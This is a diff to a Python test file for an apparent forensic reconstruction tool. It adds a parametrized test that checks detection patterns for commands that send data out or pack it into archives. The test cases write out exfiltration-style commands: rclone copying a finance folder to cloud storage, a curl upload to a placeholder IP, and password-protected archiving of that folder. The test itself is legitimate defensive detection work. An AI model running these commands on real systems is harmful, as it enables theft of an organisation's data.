@@ -9,6 +9,7 @@ import pytest
 from bedem.answers import open_view
 from bedem.answers.exposure import _asset, _worst
 from bedem.model.register import DataAsset
+from bedem.reconstruction.exposures import _PACKS, _SENDS
 from bedem.reconstruction.outflow import HABIT_DAYS, Outflow, Sent, _counts, _outflow, _usual
 from bedem.reconstruction.verdicts import Picture
 from tests.making import investigate
@@ -87,3 +88,21 @@ def test_an_upload_names_its_file_and_not_whose_hand_it_was(
     for ref in told[0].basis:
         assert view.events.count("ref = ?", [ref]) == 1
     view.close()
+
+
+@pytest.mark.parametrize(
+    ("command", "sends", "packs"),
+    [
+        (r"rclone.exe copy C:\Finance mega:x", True, False),
+        ("curl.exe -T a.7z https://192.0.2.1/", True, False),
+        ("curl https://192.0.2.1/x.ps1 -o x.ps1", False, False),
+        (r"C:\t\rar.exe a -hpx C:\t\d.rar C:\Finance", False, True),
+        ("7z.exe x d.7z", False, False),
+        ("7z.exe a d.7z C:\\Finance", False, True),
+        ("net user administrator /active:yes", False, False),
+        ("net use \\\\127.0.0.1\\c$", False, False),
+    ],
+)
+def test_a_command_is_what_it_does_and_not_its_tag(command: str, sends: bool, packs: bool) -> None:
+    assert bool(_SENDS.search(command.casefold())) is sends
+    assert bool(_PACKS.search(command.casefold())) is packs
